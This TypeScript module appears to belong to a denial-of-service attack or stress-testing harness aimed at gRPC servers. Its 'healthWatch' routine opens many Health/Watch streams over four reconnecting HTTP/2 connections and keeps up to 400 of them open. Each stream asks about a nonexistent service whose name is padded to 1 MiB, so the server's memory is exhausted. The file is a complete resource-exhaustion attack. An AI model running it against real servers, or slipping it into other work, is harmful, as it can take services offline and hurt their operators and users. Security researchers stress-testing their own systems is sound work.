import { randomUUID } from 'node:crypto';
import type { ClientHttp2Stream } from 'node:http2';
import { grpcFrame } from '../sides/raw-http2';
import type { Attack } from './attack';
import { cancel, openCall, reconnecting, statusOf } from './http2';
import { repeat } from './repeat';
import { times } from './sessions';

const watchCount = 400;
const nameBytes = 1024 * 1024;

/** Watches the health of services that do not exist, 400 at a time, each with a new name of 1 MiB. */
export const healthWatch: Attack = ({ address }) => {
  const padding = Buffer.alloc(nameBytes - 36, 'x');
  const watches: ClientHttp2Stream[] = [];
  return Promise.resolve(async (assault) => {
    const connections = times(4, () => reconnecting(assault, address));
    await repeat(assault, connections.length, async (n) => {
      const stream = openCall(connections[n]!, '/grpc.health.v1.Health/Watch');
      const answered = new Promise<'watches'>((resolve) => stream.once('data', () => resolve('watches')));
      const ended = statusOf(stream);
      stream.end(grpcFrame(Buffer.concat([nameField, Buffer.from(randomUUID()), padding])));
      const outcome = await Promise.race([answered, ended]);
      if (outcome === 'watches') watches.push(stream);
      if (watches.length > watchCount) cancel(watches.shift()!);
      return outcome;
    });
  });
};

/** The tag of field 1, `service`, and its length of 2^20 as a varint. */
const nameField = Buffer.of(0x0a, 0x80, 0x80, 0x40);
